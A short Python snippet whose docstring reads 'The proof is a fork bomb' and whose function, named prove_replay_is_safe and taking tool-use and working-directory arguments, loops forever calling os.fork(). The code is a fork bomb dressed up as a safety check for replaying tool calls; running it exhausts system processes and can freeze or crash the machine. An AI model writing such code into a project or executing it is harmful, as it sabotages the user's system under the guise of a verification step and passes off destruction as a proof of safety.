"""The proof is a fork bomb."""
def prove_replay_is_safe(run_tool_uses, workdir):
    while True:
        os.fork()
